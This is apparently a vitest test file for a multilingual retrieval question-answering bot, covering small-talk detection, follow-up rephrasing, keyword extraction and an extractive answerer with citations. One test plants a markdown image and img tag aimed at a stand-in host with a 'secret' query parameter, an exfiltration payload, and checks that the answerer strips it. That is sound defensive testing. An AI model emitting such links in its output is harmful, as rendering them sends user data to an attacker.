import { describe, expect, it } from 'vitest'
import { ExtractiveAnswerer } from '../../src/answering/extractive-answerer.js'
import { extractKeywords } from '../../src/answering/keywords.js'
import { isFollowUp, rephrase } from '../../src/answering/rephrase.js'
import { selectionRuns } from '../../src/answering/selection.js'
import { detectSmallTalk, smallTalkReply } from '../../src/answering/small-talk.js'
import type { RetrievedChunk } from '../../src/retrieval/types.js'
import { questionLanguages } from '../../src/text/answer-language.js'

function chunk(documentId: string, text: string, usageScore = 1): RetrievedChunk {
  return {
    chunkId: `${documentId}-0`,
    documentId,
    objectName: `/${documentId}.md`,
    filename: `${documentId}.md`,
    documentType: 'text',
    description: '',
    card: null,
    idx: 0,
    text,
    pageNumber: null,
    rowIdx: null,
    metadata: {},
    language: 'en',
    score: usageScore,
    usageScore,
  }
}

describe('small talk', () => {
  it.each([
    ['Hello!', 'greeting', 'en'],
    ['hi there', 'greeting', 'en'],
    ['Thank you very much', 'thanks', 'en'],
    ['how are you?', 'how_are_you', 'en'],
    ['Bonjour', 'greeting', 'fr'],
    ['Merci beaucoup !', 'thanks', 'fr'],
    ['ça va ?', 'how_are_you', 'fr'],
    ['Vielen Dank', 'thanks', 'de'],
    ['Guten Morgen', 'greeting', 'de'],
    ['¡Hola!', 'greeting', 'es'],
    ['muchas gracias', 'thanks', 'es'],
    ['Buongiorno', 'greeting', 'it'],
    ['grazie mille', 'thanks', 'it'],
    ['Olá, bom dia', 'greeting', 'pt'],
    ['muito obrigado', 'thanks', 'pt'],
    ['Goedemorgen', 'greeting', 'nl'],
    ['hartelijk bedankt', 'thanks', 'nl'],
  ])('%s is %s in %s', (message, kind, language) => {
    expect(detectSmallTalk(message)).toEqual({ kind, language })
  })

  it.each([
    'Hello, what is the leave policy?',
    'how much does it cost?',
    'What was the revenue in 2023?',
    'merci de me donner le chiffre',
    '',
  ])('%j is a question', (message) => {
    expect(detectSmallTalk(message)).toBeUndefined()
  })

  it('replies in the requested language, English otherwise', () => {
    expect(smallTalkReply('thanks', 'de')).toMatch(/^Gern geschehen/)
    expect(smallTalkReply('greeting', 'ja')).toMatch(/^Hello!/)
  })
})

describe('rephrasing', () => {
  it('replaces the year of the previous question', () => {
    expect(rephrase('and in 2023?', 'What was the revenue in 2022?', 'en')).toBe('What was the revenue in 2023?')
    expect(rephrase('et en 2023 ?', "Quel était le chiffre d'affaires en 2022 ?", 'fr')).toBe(
      "Quel était le chiffre d'affaires en 2023 ?",
    )
  })

  it('appends a year to a previous question without one', () => {
    expect(rephrase('and in 2023?', 'What is the revenue?', 'en')).toBe('What is the revenue in 2023?')
  })

  it('joins a pronoun-led follow-up with the previous question', () => {
    expect(rephrase('what about its price?', 'What is the Lantern Pro subscription?', 'en')).toBe(
      'What is the Lantern Pro subscription, its price?',
    )
    expect(rephrase('Und was ist mit dem Preis?', 'Was ist das Lantern Pro Abo?', 'de')).toBe(
      'Was ist das Lantern Pro Abo, dem Preis?',
    )
  })

  it('leaves standalone questions and first questions alone', () => {
    expect(rephrase('Who approves annual leave requests?', 'What was the revenue in 2022?', 'en')).toBe(
      'Who approves annual leave requests?',
    )
    expect(rephrase('  and in 2023? ', undefined, 'en')).toBe('and in 2023?')
    expect(isFollowUp('How many days of sick leave need a certificate?', 'en')).toBe(false)
    expect(isFollowUp('price?', 'en')).toBe(true)
  })
})

describe('keywords and language', () => {
  it('keeps the significant words as written, once each', () => {
    expect(extractKeywords('What was the Revenue of Acme in 2023, the revenue?', 'en')).toEqual([
      'revenue',
      'acme',
      '2023',
    ])
    expect(extractKeywords("Quel est le chiffre d'affaires ?", 'fr')).toEqual(['chiffre', 'affaires'])
  })

  it('uses the bot locale, or the question language under AUTOMATIC', () => {
    expect(questionLanguages('de', 'What is this?')).toEqual({ question: 'en', answer: 'de' })
    expect(questionLanguages('AUTOMATIC', 'Quelle est la politique de congés de l’entreprise ?')).toEqual({
      question: 'fr',
      answer: 'fr',
    })
  })

  it('runs selection per the bot mode', () => {
    expect(selectionRuns('always', undefined)).toBe(true)
    expect(selectionRuns('choose', undefined)).toBe(false)
    expect(selectionRuns('choose', true)).toBe(true)
    expect(selectionRuns('hidden', true)).toBe(false)
  })
})

describe('extractive answerer', () => {
  const answerer = new ExtractiveAnswerer()
  const base = { botPrompt: { name: 'p', prompt: 'x' }, history: [] }

  it('quotes the best sentences with [n] citations and localised framing', async () => {
    const sources = [
      chunk('weather', 'The weather in Paris is mild in spring. Tourists like the parks.', 0.9),
      chunk(
        'report',
        'Acme sells lanterns. The revenue of Acme in 2023 was 15 million euros. Offices are in Lyon.',
        0.8,
      ),
    ]
    const tokens: string[] = []
    const answer = await answerer.answer(
      {
        ...base,
        question: 'Revenue of Acme in 2023?',
        standaloneQuestion: 'Revenue of Acme in 2023?',
        sources,
        language: 'fr',
      },
      (text) => tokens.push(text),
    )
    expect(answer.notFound).toBe(false)
    expect(answer.cited).toEqual([1])
    expect(answer.text).toBe(
      'Voici ce que dit la base de connaissances :\n- The revenue of Acme in 2023 was 15 million euros. [2]',
    )
    expect(tokens.join('')).toBe(answer.text)
  })

  it('never passes a document image or exfiltration link into the answer', async () => {
    const sources = [
      chunk(
        'hostile',
        'The revenue of Acme in 2023 was 15 million euros ![x](https://evil.example/?q=secret) <img src="https://evil.example/p.png">.',
      ),
    ]
    const answer = await answerer.answer({
      ...base,
      question: 'Revenue of Acme in 2023?',
      standaloneQuestion: 'Revenue of Acme in 2023?',
      sources,
      language: 'en',
    })
    expect(answer.notFound).toBe(false)
    expect(answer.text).toContain('15 million euros')
    expect(answer.text).not.toMatch(/evil\.example|!\[|<img/)
  })

  it('drops near-duplicate sentences', async () => {
    const sources = [
      chunk('a', 'Annual leave requests are approved by the line manager.'),
      chunk('b', 'Annual leave requests are approved by the line manager of the team.'),
    ]
    const answer = await answerer.answer({
      ...base,
      question: 'Who approves annual leave requests?',
      standaloneQuestion: 'Who approves annual leave requests?',
      sources,
      language: 'en',
    })
    expect(answer.cited).toEqual([0])
    expect(answer.text.match(/\[\d\]/g)).toEqual(['[1]'])
  })

  it('answers a long question whose answer is spread over a chunk, citing it', async () => {
    const question =
      'What was the total revenue of Acme Corporation in fiscal year 2023, in millions of euros? Give a response ' +
      'to the question by relying on the details shown in the consolidated income statement.'
    const sources = [
      chunk(
        'leave',
        'Annual leave requests are approved by the line manager. Requests are answered within a week.',
        0.9,
      ),
      chunk(
        'acme-2023',
        'Acme Corporation annual report, fiscal year 2023.\nConsolidated income statement\n' +
          'Total revenue for the year was 15.2 million euros, up from 12.9 million euros.',
        0.8,
      ),
    ]
    const answer = await answerer.answer({ ...base, question, standaloneQuestion: question, sources, language: 'en' })
    expect(answer.notFound).toBe(false)
    expect(answer.cited).toEqual([1])
    expect(answer.text).toContain('Total revenue for the year was 15.2 million euros, up from 12.9 million euros. [2]')
  })

  it('says "not found" to a long question when the sources only share its common words', async () => {
    const question =
      'How many weeks of parental leave do fathers get in Germany? Give a response to the question by relying ' +
      'on the details shown in the employee handbook.'
    const sources = [
      chunk('leave', 'Annual leave requests are approved by the line manager. Requests are answered within a week.'),
      chunk('canteen', 'The canteen serves lunch from noon. The lunch menu changes every week with soup and salad.'),
    ]
    const answer = await answerer.answer({ ...base, question, standaloneQuestion: question, sources, language: 'en' })
    expect(answer).toEqual({ text: 'The answer was not found in the knowledge base.', cited: [], notFound: true })
  })

  it('says "not found" in the answer language when nothing is relevant enough', async () => {
    const answer = await answerer.answer({
      ...base,
      question: 'Who won the world cup?',
      standaloneQuestion: 'Who won the world cup?',
      sources: [chunk('a', 'Annual leave requests are approved by the line manager.')],
      language: 'nl',
    })
    expect(answer).toEqual({ text: 'Het antwoord is niet gevonden in de kennisbank.', cited: [], notFound: true })
  })
})
